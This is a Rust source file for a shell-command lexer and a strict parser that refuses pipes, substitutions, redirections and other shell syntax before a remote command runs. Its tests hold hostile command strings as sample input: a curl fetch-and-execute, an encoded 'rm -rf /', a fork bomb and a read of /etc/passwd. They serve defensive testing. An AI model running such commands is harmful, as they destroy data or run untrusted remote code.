//! Shell words: a lexer for POSIX/bash command lines that keeps track of every piece of shell
//! syntax it meets, single-quoting to rebuild a command from checked words, and the strict
//! parse `ssh.exec.peek` uses (one plain command, nothing the remote shell would interpret).
//!
//! The lexer does not execute or expand anything. It serves two readers: peek, which refuses any
//! syntax at all, and the danger classifier, which needs the words, the operators between them
//! and the text of nested commands (`$(…)`, backticks, `<(…)`).

use std::fmt;

/// A piece of shell syntax. Peek refuses every one of them; the classifier reads through them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Syntax {
    Sequence,
    Background,
    And,
    Or,
    Pipe,
    Newline,
    Subshell,
    Redirection,
    CommandSubstitution,
    ProcessSubstitution,
    VariableExpansion,
    ArithmeticExpansion,
    AnsiCQuoting,
    Glob,
    Tilde,
    Brace,
    Comment,
    Assignment,
}

impl Syntax {
    fn describe(self) -> &'static str {
        match self {
            Syntax::Sequence => "`;` (a command sequence)",
            Syntax::Background => "`&` (a background job)",
            Syntax::And => "`&&` (an and-list)",
            Syntax::Or => "`||` (an or-list)",
            Syntax::Pipe => "`|` (a pipe)",
            Syntax::Newline => "a newline (a second command)",
            Syntax::Subshell => "`(` `)` (a subshell)",
            Syntax::Redirection => "a redirection (`>`, `<`, `>>`, …)",
            Syntax::CommandSubstitution => "command substitution (`$( )` or backticks)",
            Syntax::ProcessSubstitution => "process substitution (`<( )`, `>( )`)",
            Syntax::VariableExpansion => "variable expansion (`$NAME`, `${…}`)",
            Syntax::ArithmeticExpansion => "arithmetic expansion (`$(( ))`)",
            Syntax::AnsiCQuoting => "ANSI-C quoting (`$'…'`)",
            Syntax::Glob => "a glob (`*`, `?`, `[`)",
            Syntax::Tilde => "tilde expansion (`~`)",
            Syntax::Brace => "braces (`{ }`: a group or brace expansion)",
            Syntax::Comment => "a comment (`#`)",
            Syntax::Assignment => "an environment assignment (`NAME=value` before the program)",
        }
    }
}

/// An operator between words.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Op {
    /// `;` (also `;;`, `;&` inside `case`).
    Semi,
    /// `&`
    Amp,
    /// `&&`
    AndIf,
    /// `||`
    OrIf,
    /// `|` or `|&`
    Pipe,
    LParen,
    RParen,
    Newline,
    /// `#…` up to the end of the line.
    Comment,
    /// A redirection operator with its file-descriptor prefix, e.g. `>`, `2>>`, `&>`, `<<`.
    Redirect(String),
}

impl Op {
    pub fn syntax(&self) -> Syntax {
        match self {
            Op::Semi => Syntax::Sequence,
            Op::Amp => Syntax::Background,
            Op::AndIf => Syntax::And,
            Op::OrIf => Syntax::Or,
            Op::Pipe => Syntax::Pipe,
            Op::LParen | Op::RParen => Syntax::Subshell,
            Op::Newline => Syntax::Newline,
            Op::Comment => Syntax::Comment,
            Op::Redirect(_) => Syntax::Redirection,
        }
    }

    pub fn as_str(&self) -> &str {
        match self {
            Op::Semi => ";",
            Op::Amp => "&",
            Op::AndIf => "&&",
            Op::OrIf => "||",
            Op::Pipe => "|",
            Op::LParen => "(",
            Op::RParen => ")",
            Op::Newline => "\\n",
            Op::Comment => "#",
            Op::Redirect(r) => r,
        }
    }

    /// A redirection that writes to its target (and truncates it unless it appends).
    pub fn writes(&self) -> Option<WriteMode> {
        let Op::Redirect(r) = self else { return None };
        let r = r.trim_start_matches(|c: char| c.is_ascii_digit());
        match r {
            ">>" | "&>>" => Some(WriteMode::Append),
            ">" | ">|" | "&>" | ">&" | "<>" => Some(WriteMode::Truncate),
            _ => None,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WriteMode {
    Truncate,
    Append,
}

/// One shell word after quote removal. Expansions stay in `text` as written (`$HOME`, `$(…)`).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Word {
    pub text: String,
    /// Expansions and other syntax inside the word, in order of appearance, without repeats.
    pub syntax: Vec<Syntax>,
    /// The source of each nested command (`$(…)`, backticks, `<(…)`).
    pub nested: Vec<String>,
    /// Starts with `NAME=` outside quotes: an assignment when it comes before the program.
    pub assignment: bool,
}

impl Word {
    fn note(&mut self, s: Syntax) {
        if !self.syntax.contains(&s) {
            self.syntax.push(s);
        }
    }

    /// Its value is only known when the shell runs it.
    pub fn is_dynamic(&self) -> bool {
        self.syntax.iter().any(|s| {
            matches!(
                s,
                Syntax::VariableExpansion
                    | Syntax::CommandSubstitution
                    | Syntax::ProcessSubstitution
                    | Syntax::ArithmeticExpansion
            )
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Token {
    Word(Word),
    Op(Op),
}

/// Why a command line could not be read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LexError {
    UnterminatedSingleQuote,
    UnterminatedDoubleQuote,
    UnterminatedSubstitution,
    TrailingBackslash,
}

impl fmt::Display for LexError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            LexError::UnterminatedSingleQuote => "a single quote is not closed",
            LexError::UnterminatedDoubleQuote => "a double quote is not closed",
            LexError::UnterminatedSubstitution => "a `$(`, `${`, `(` or backtick is not closed",
            LexError::TrailingBackslash => "the command ends with a backslash",
        })
    }
}

/// Splits a command line into words and operators.
pub fn lex(src: &str) -> Result<Vec<Token>, LexError> {
    Lexer {
        chars: src.chars().collect(),
        pos: 0,
        tokens: Vec::new(),
        word: None,
    }
    .run()
}

struct Lexer {
    chars: Vec<char>,
    pos: usize,
    tokens: Vec<Token>,
    /// The word being built; `Some` once any character (even an empty quote) belongs to it.
    word: Option<Word>,
}

impl Lexer {
    fn peek(&self, ahead: usize) -> Option<char> {
        self.chars.get(self.pos + ahead).copied()
    }

    fn word(&mut self) -> &mut Word {
        self.word.get_or_insert_with(Word::default)
    }

    fn finish_word(&mut self) {
        if let Some(w) = self.word.take() {
            self.tokens.push(Token::Word(w));
        }
    }

    fn op(&mut self, op: Op) {
        self.finish_word();
        self.tokens.push(Token::Op(op));
    }

    /// `NAME` so far, all of it unquoted: an `=` now makes the word an assignment.
    fn at_assignment(&self) -> bool {
        match &self.word {
            Some(w) if w.syntax.is_empty() && !w.assignment => {
                let mut chars = w.text.chars();
                matches!(chars.next(), Some(c) if c == '_' || c.is_ascii_alphabetic())
                    && chars.all(|c| c == '_' || c.is_ascii_alphanumeric())
            }
            _ => false,
        }
    }

    fn run(mut self) -> Result<Vec<Token>, LexError> {
        // A quote or escape before `=` makes `NAME=value` a plain word, not an assignment.
        let mut quoted_since_start = false;
        while let Some(c) = self.peek(0) {
            let starting = self.word.is_none();
            if starting {
                quoted_since_start = false;
            }
            match c {
                ' ' | '\t' => {
                    self.finish_word();
                    self.pos += 1;
                }
                '\n' => {
                    self.op(Op::Newline);
                    self.pos += 1;
                }
                '\\' => match self.peek(1) {
                    Some('\n') => self.pos += 2,
                    Some(next) => {
                        self.word().text.push(next);
                        quoted_since_start = true;
                        self.pos += 2;
                    }
                    None => return Err(LexError::TrailingBackslash),
                },
                '\'' => {
                    self.pos += 1;
                    let end = self.find('\'').ok_or(LexError::UnterminatedSingleQuote)?;
                    let text: String = self.chars[self.pos..end].iter().collect();
                    self.word().text.push_str(&text);
                    quoted_since_start = true;
                    self.pos = end + 1;
                }
                '"' => {
                    self.pos += 1;
                    self.double_quoted()?;
                    quoted_since_start = true;
                }
                '`' => self.backticks()?,
                '$' => self.dollar()?,
                ';' => {
                    self.pos += if matches!(self.peek(1), Some(';' | '&')) {
                        2
                    } else {
                        1
                    };
                    self.op(Op::Semi);
                }
                '&' => match self.peek(1) {
                    Some('&') => {
                        self.pos += 2;
                        self.op(Op::AndIf);
                    }
                    Some('>') => {
                        let len = if self.peek(2) == Some('>') { 3 } else { 2 };
                        let text: String = self.chars[self.pos..self.pos + len].iter().collect();
                        self.pos += len;
                        self.op(Op::Redirect(text));
                    }
                    _ => {
                        self.pos += 1;
                        self.op(Op::Amp);
                    }
                },
                '|' => {
                    let two = matches!(self.peek(1), Some('|' | '&'));
                    let op = if self.peek(1) == Some('|') {
                        Op::OrIf
                    } else {
                        Op::Pipe
                    };
                    self.pos += if two { 2 } else { 1 };
                    self.op(op);
                }
                '(' => {
                    self.pos += 1;
                    self.op(Op::LParen);
                }
                ')' => {
                    self.pos += 1;
                    self.op(Op::RParen);
                }
                '<' | '>' if self.peek(1) == Some('(') => self.process_substitution()?,
                '<' | '>' => self.redirection(quoted_since_start),
                '#' if starting => {
                    while self.peek(0).is_some_and(|c| c != '\n') {
                        self.pos += 1;
                    }
                    self.op(Op::Comment);
                }
                '*' | '?' | '[' => {
                    let w = self.word();
                    w.text.push(c);
                    w.note(Syntax::Glob);
                    self.pos += 1;
                }
                '~' if starting => {
                    let w = self.word();
                    w.text.push(c);
                    w.note(Syntax::Tilde);
                    self.pos += 1;
                }
                '{' | '}' => {
                    let w = self.word();
                    w.text.push(c);
                    w.note(Syntax::Brace);
                    self.pos += 1;
                }
                '=' if !quoted_since_start && self.at_assignment() => {
                    let w = self.word();
                    w.text.push(c);
                    w.assignment = true;
                    self.pos += 1;
                }
                _ => {
                    self.word().text.push(c);
                    self.pos += 1;
                }
            }
        }
        self.finish_word();
        Ok(self.tokens)
    }

    fn find(&self, c: char) -> Option<usize> {
        (self.pos..self.chars.len()).find(|&i| self.chars[i] == c)
    }

    fn double_quoted(&mut self) -> Result<(), LexError> {
        self.word();
        loop {
            match self.peek(0) {
                None => return Err(LexError::UnterminatedDoubleQuote),
                Some('"') => {
                    self.pos += 1;
                    return Ok(());
                }
                Some('\\') => match self.peek(1) {
                    Some(c @ ('$' | '`' | '"' | '\\')) => {
                        self.word().text.push(c);
                        self.pos += 2;
                    }
                    Some('\n') => self.pos += 2,
                    Some(_) => {
                        self.word().text.push('\\');
                        self.pos += 1;
                    }
                    None => return Err(LexError::UnterminatedDoubleQuote),
                },
                Some('`') => self.backticks()?,
                Some('$') if matches!(self.peek(1), Some('\'' | '"')) => {
                    // No ANSI-C or locale quoting inside double quotes.
                    self.word().text.push('$');
                    self.pos += 1;
                }
                Some('$') => self.dollar()?,
                Some(c) => {
                    self.word().text.push(c);
                    self.pos += 1;
                }
            }
        }
    }

    /// `$(…)`, `$((…))`, `${…}`, `$NAME`, `$1`, `$?`, `$'…'`, `$"…"`; a lone `$` is literal.
    fn dollar(&mut self) -> Result<(), LexError> {
        let start = self.pos;
        match self.peek(1) {
            Some('(') if self.peek(2) == Some('(') => {
                let end = self.matching(self.pos + 1, '(', ')')?;
                self.push_source(start, end + 1, Syntax::ArithmeticExpansion, None);
            }
            Some('(') => {
                let end = self.matching(self.pos + 1, '(', ')')?;
                let inner: String = self.chars[start + 2..end].iter().collect();
                self.push_source(start, end + 1, Syntax::CommandSubstitution, Some(inner));
            }
            Some('{') => {
                let end = self.matching(self.pos + 1, '{', '}')?;
                self.push_source(start, end + 1, Syntax::VariableExpansion, None);
            }
            Some('\'') => {
                self.pos += 2;
                let decoded = self.ansi_c()?;
                let w = self.word();
                w.text.push_str(&decoded);
                w.note(Syntax::AnsiCQuoting);
            }
            Some('"') => {
                self.pos += 2;
                self.double_quoted()?;
            }
            Some(c) if c == '_' || c.is_ascii_alphabetic() => {
                let mut end = self.pos + 1;
                while self
                    .chars
                    .get(end)
                    .is_some_and(|c| *c == '_' || c.is_ascii_alphanumeric())
                {
                    end += 1;
                }
                self.push_source(start, end, Syntax::VariableExpansion, None);
            }
            Some(c) if c.is_ascii_digit() || "?$#@*!-".contains(c) => {
                self.push_source(start, start + 2, Syntax::VariableExpansion, None);
            }
            _ => {
                self.word().text.push('$');
                self.pos += 1;
            }
        }
        Ok(())
    }

    fn backticks(&mut self) -> Result<(), LexError> {
        let start = self.pos;
        let mut i = self.pos + 1;
        let mut inner = String::new();
        loop {
            match self.chars.get(i) {
                None => return Err(LexError::UnterminatedSubstitution),
                Some('`') => break,
                Some('\\') if matches!(self.chars.get(i + 1), Some('`' | '\\' | '$')) => {
                    inner.push(self.chars[i + 1]);
                    i += 2;
                }
                Some(c) => {
                    inner.push(*c);
                    i += 1;
                }
            }
        }
        self.push_source(start, i + 1, Syntax::CommandSubstitution, Some(inner));
        Ok(())
    }

    fn process_substitution(&mut self) -> Result<(), LexError> {
        let start = self.pos;
        let end = self.matching(self.pos + 1, '(', ')')?;
        let inner: String = self.chars[start + 2..end].iter().collect();
        self.push_source(start, end + 1, Syntax::ProcessSubstitution, Some(inner));
        Ok(())
    }

    /// Appends `chars[from..to]` verbatim to the current word, noting what it is.
    fn push_source(&mut self, from: usize, to: usize, syntax: Syntax, nested: Option<String>) {
        let text: String = self.chars[from..to].iter().collect();
        let w = self.word();
        w.text.push_str(&text);
        w.note(syntax);
        w.nested.extend(nested);
        self.pos = to;
    }

    /// The index of the bracket closing the one at `open_at`, skipping quoted text.
    fn matching(&self, open_at: usize, open: char, close: char) -> Result<usize, LexError> {
        let mut depth = 0usize;
        let mut i = open_at;
        while let Some(&c) = self.chars.get(i) {
            match c {
                '\\' => i += 1,
                '\'' => {
                    i += 1;
                    while self.chars.get(i).is_some_and(|c| *c != '\'') {
                        i += 1;
                    }
                }
                '"' => {
                    i += 1;
                    while let Some(&c) = self.chars.get(i) {
                        match c {
                            '\\' => i += 1,
                            '"' => break,
                            _ => {}
                        }
                        i += 1;
                    }
                }
                c if c == open => depth += 1,
                c if c == close => {
                    depth -= 1;
                    if depth == 0 {
                        return Ok(i);
                    }
                }
                _ => {}
            }
            i += 1;
        }
        Err(LexError::UnterminatedSubstitution)
    }

    /// The body of `$'…'` (after the opening quote), decoded like bash does.
    fn ansi_c(&mut self) -> Result<String, LexError> {
        let mut out = String::new();
        loop {
            let Some(c) = self.peek(0) else {
                return Err(LexError::UnterminatedSingleQuote);
            };
            self.pos += 1;
            match c {
                '\'' => return Ok(out),
                '\\' => {
                    let Some(e) = self.peek(0) else {
                        return Err(LexError::UnterminatedSingleQuote);
                    };
                    self.pos += 1;
                    match e {
                        'n' => out.push('\n'),
                        't' => out.push('\t'),
                        'r' => out.push('\r'),
                        'a' => out.push('\x07'),
                        'b' => out.push('\x08'),
                        'e' | 'E' => out.push('\x1b'),
                        'f' => out.push('\x0c'),
                        'v' => out.push('\x0b'),
                        'x' => out.extend(self.radix_char(16, 2)),
                        'u' => out.extend(self.radix_char(16, 4)),
                        'U' => out.extend(self.radix_char(16, 8)),
                        '0'..='7' => {
                            self.pos -= 1;
                            out.extend(self.radix_char(8, 3));
                        }
                        other => out.push(other),
                    }
                }
                c => out.push(c),
            }
        }
    }

    fn radix_char(&mut self, radix: u32, max_digits: usize) -> Option<char> {
        let mut value = 0u32;
        let mut n = 0;
        while n < max_digits
            && let Some(d) = self.peek(0).and_then(|c| c.to_digit(radix))
        {
            value = value * radix + d;
            self.pos += 1;
            n += 1;
        }
        (n > 0).then(|| char::from_u32(value)).flatten()
    }

    /// `<`, `>`, `>>`, `>|`, `<<`, `<<-`, `<<<`, `<>`, `<&`, `>&`, with a leading fd number.
    fn redirection(&mut self, quoted: bool) {
        let mut text = String::new();
        if !quoted
            && let Some(w) = &self.word
            && w.syntax.is_empty()
            && !w.text.is_empty()
            && w.text.bytes().all(|b| b.is_ascii_digit())
        {
            text = self.word.take().map(|w| w.text).unwrap_or_default();
        }
        let first = self.chars[self.pos];
        text.push(first);
        self.pos += 1;
        let rest: &[&str] = if first == '<' {
            &["<-", "<<", "<", ">", "&"]
        } else {
            &[">", "|", "&"]
        };
        for r in rest {
            let n = r.chars().count();
            if self.chars.len() >= self.pos + n
                && self.chars[self.pos..self.pos + n]
                    .iter()
                    .copied()
                    .eq(r.chars())
            {
                text.push_str(r);
                self.pos += n;
                break;
            }
        }
        self.op(Op::Redirect(text));
    }
}

/// Single-quotes a word so that every POSIX shell reads it back unchanged.
pub fn quote(word: &str) -> String {
    let mut out = String::with_capacity(word.len() + 2);
    out.push('\'');
    for c in word.chars() {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

/// The command line that runs exactly `argv`: every word quoted.
pub fn join(argv: &[String]) -> String {
    argv.iter().map(|w| quote(w)).collect::<Vec<_>>().join(" ")
}

/// Why peek refused a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PlainError {
    Empty,
    Unreadable(LexError),
    Syntax(Syntax),
}

impl PlainError {
    pub fn code(&self) -> &'static str {
        "shell_syntax_not_allowed"
    }
}

impl fmt::Display for PlainError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PlainError::Empty => f.write_str("the command is empty"),
            PlainError::Unreadable(e) => write!(f, "the command cannot be read: {e}"),
            PlainError::Syntax(s) => write!(
                f,
                "shell syntax is not allowed: {}; send one program and its arguments",
                s.describe()
            ),
        }
    }
}

/// A plain command's argv: words only, with nothing the shell would expand or interpret.
/// Quoting is fine (it is removed); anything else is refused with the first offending syntax.
pub fn plain_argv(command: &str) -> Result<Vec<String>, PlainError> {
    let tokens = lex(command).map_err(PlainError::Unreadable)?;
    let mut argv = Vec::with_capacity(tokens.len());
    for (i, token) in tokens.into_iter().enumerate() {
        match token {
            Token::Op(op) => return Err(PlainError::Syntax(op.syntax())),
            Token::Word(w) => {
                if let Some(s) = w.syntax.first() {
                    return Err(PlainError::Syntax(*s));
                }
                if i == 0 && w.assignment {
                    return Err(PlainError::Syntax(Syntax::Assignment));
                }
                argv.push(w.text);
            }
        }
    }
    if argv.is_empty() {
        return Err(PlainError::Empty);
    }
    Ok(argv)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(src: &str) -> Vec<String> {
        lex(src)
            .unwrap()
            .into_iter()
            .map(|t| match t {
                Token::Word(w) => w.text,
                Token::Op(op) => format!("<{}>", op.as_str()),
            })
            .collect()
    }

    #[test]
    fn splits_words_and_removes_quotes() {
        assert_eq!(
            plain_argv(r#"grep -n 'a b' "c d" e\ f ''"#).unwrap(),
            ["grep", "-n", "a b", "c d", "e f", ""]
        );
        assert_eq!(
            plain_argv("  ls\t-la   /var/log  ").unwrap(),
            ["ls", "-la", "/var/log"]
        );
        assert_eq!(
            plain_argv(r#"echo "a\"b\\c\d""#).unwrap(),
            ["echo", r#"a"b\c\d"#]
        );
        assert_eq!(plain_argv("echo it''s").unwrap(), ["echo", "its"]);
        assert_eq!(
            plain_argv("echo 'quoted $HOME and `x`'").unwrap(),
            ["echo", "quoted $HOME and `x`"]
        );
        assert_eq!(
            plain_argv("echo cost: $ 5").unwrap(),
            ["echo", "cost:", "$", "5"]
        );
        assert_eq!(plain_argv("a\\\nb").unwrap(), ["ab"]);
    }

    #[test]
    fn refuses_every_piece_of_shell_syntax() {
        let cases = [
            ("ls; rm x", Syntax::Sequence),
            ("ls | wc -l", Syntax::Pipe),
            ("ls |& wc", Syntax::Pipe),
            ("sleep 1 &", Syntax::Background),
            ("true && ls", Syntax::And),
            ("false || ls", Syntax::Or),
            ("echo $(id)", Syntax::CommandSubstitution),
            ("echo `id`", Syntax::CommandSubstitution),
            ("echo \"$(id)\"", Syntax::CommandSubstitution),
            ("echo hi > /tmp/x", Syntax::Redirection),
            ("echo hi >> /tmp/x", Syntax::Redirection),
            ("cat < /etc/passwd", Syntax::Redirection),
            ("ls 2>/dev/null", Syntax::Redirection),
            ("ls &>/dev/null", Syntax::Redirection),
            ("cat <<EOF", Syntax::Redirection),
            ("ls\nrm x", Syntax::Newline),
            ("(ls)", Syntax::Subshell),
            ("echo $HOME", Syntax::VariableExpansion),
            ("echo ${HOME}", Syntax::VariableExpansion),
            ("echo \"$HOME\"", Syntax::VariableExpansion),
            ("echo $1", Syntax::VariableExpansion),
            ("echo $?", Syntax::VariableExpansion),
            ("echo $((1+2))", Syntax::ArithmeticExpansion),
            ("echo $'\\x41'", Syntax::AnsiCQuoting),
            ("FOO=bar ls", Syntax::Assignment),
            ("ls *.log", Syntax::Glob),
            ("ls file?", Syntax::Glob),
            ("ls [ab]", Syntax::Glob),
            ("ls ~", Syntax::Tilde),
            ("ls ~root/x", Syntax::Tilde),
            ("echo {a,b}", Syntax::Brace),
            ("{ ls; }", Syntax::Brace),
            ("ls # comment", Syntax::Comment),
            ("diff <(ls a) <(ls b)", Syntax::ProcessSubstitution),
        ];
        for (src, want) in cases {
            assert_eq!(
                plain_argv(src),
                Err(PlainError::Syntax(want)),
                "{src:?} should be refused as {want:?}"
            );
        }
    }

    #[test]
    fn quoted_syntax_is_plain_text() {
        for src in [
            "echo ';'",
            "echo '|' '&&' '>' '$(x)' '*' '~' '{a,b}' '#'",
            "echo \"a;b|c&d>e*f~g{h}#i\"",
            "echo \\; \\| \\* \\$HOME",
            "'FOO=bar' ls",
            "ls a#b",
            "ls a~b",
            "grep x=1 file",
        ] {
            assert!(plain_argv(src).is_ok(), "{src:?}");
        }
        assert_eq!(plain_argv("echo a#b").unwrap(), ["echo", "a#b"]);
        assert_eq!(
            plain_argv("grep FOO=bar file").unwrap(),
            ["grep", "FOO=bar", "file"]
        );
    }

    #[test]
    fn unreadable_or_empty_commands_are_refused() {
        assert_eq!(
            plain_argv("echo 'open"),
            Err(PlainError::Unreadable(LexError::UnterminatedSingleQuote))
        );
        assert_eq!(
            plain_argv("echo \"open"),
            Err(PlainError::Unreadable(LexError::UnterminatedDoubleQuote))
        );
        assert_eq!(
            plain_argv("echo x\\"),
            Err(PlainError::Unreadable(LexError::TrailingBackslash))
        );
        assert_eq!(
            plain_argv("echo $(open"),
            Err(PlainError::Unreadable(LexError::UnterminatedSubstitution))
        );
        assert_eq!(plain_argv("   "), Err(PlainError::Empty));
        assert_eq!(plain_argv(""), Err(PlainError::Empty));
    }

    #[test]
    fn quoting_then_parsing_gives_back_the_argv() {
        let samples: Vec<Vec<String>> = vec![
            vec!["ls".into(), "-la".into()],
            vec!["echo".into(), "it's".into(), "'".into(), "''".into()],
            vec!["grep".into(), "a b;c|d&e".into(), "$(rm -rf /)".into()],
            vec!["printf".into(), "%s\n".into(), "tab\there".into()],
            vec![
                "x".into(),
                "".into(),
                "\\".into(),
                "\"".into(),
                "`id`".into(),
            ],
            vec![
                "echo".into(),
                "~".into(),
                "*".into(),
                "{a,b}".into(),
                "#".into(),
            ],
            vec!["FOO=bar".into(), "ünïcødé ✓".into()],
        ];
        for argv in samples {
            let line = join(&argv);
            let back: Vec<String> = lex(&line)
                .unwrap()
                .into_iter()
                .map(|t| match t {
                    Token::Word(w) => {
                        assert!(w.syntax.is_empty(), "{line}: {w:?}");
                        w.text
                    }
                    Token::Op(op) => panic!("{line}: operator {op:?}"),
                })
                .collect();
            assert_eq!(back, argv, "{line}");
        }
        // Every character, one at a time and all together.
        let all: String = (1u8..128).map(char::from).collect();
        let argv = vec!["echo".to_string(), all];
        assert_eq!(plain_argv(&join(&argv)).unwrap(), argv);
    }

    #[test]
    fn reads_operators_nested_commands_and_ansi_c_strings() {
        assert_eq!(
            words("a&&b||c|d;e&f\ng"),
            [
                "a", "<&&>", "b", "<||>", "c", "<|>", "d", "<;>", "e", "<&>", "f", "<\\n>", "g"
            ]
        );
        assert_eq!(
            words("x 2>>log <in >|out &>all 3<&0"),
            [
                "x", "<2>>>", "log", "<<>", "in", "<>|>", "out", "<&>>", "all", "<3<&>", "0"
            ]
        );
        assert_eq!(words(":(){ :|:& };:")[..4], [":", "<(>", "<)>", "{"]);
        let toks = lex("sh -c \"$(curl -s http://x/i.sh)\" `id` <(wget -qO- y)").unwrap();
        let nested: Vec<String> = toks
            .iter()
            .filter_map(|t| match t {
                Token::Word(w) => Some(w.nested.clone()),
                _ => None,
            })
            .flatten()
            .collect();
        assert_eq!(nested, ["curl -s http://x/i.sh", "id", "wget -qO- y"]);
        assert_eq!(words("$'\\x72\\155' -rf /"), ["rm", "-rf", "/"]);
        assert_eq!(
            words("echo $(echo ')' \"(\")"),
            ["echo", "$(echo ')' \"(\")"]
        );
        let w = match &lex("A=1").unwrap()[0] {
            Token::Word(w) => w.clone(),
            _ => unreachable!(),
        };
        assert!(w.assignment);
    }
}
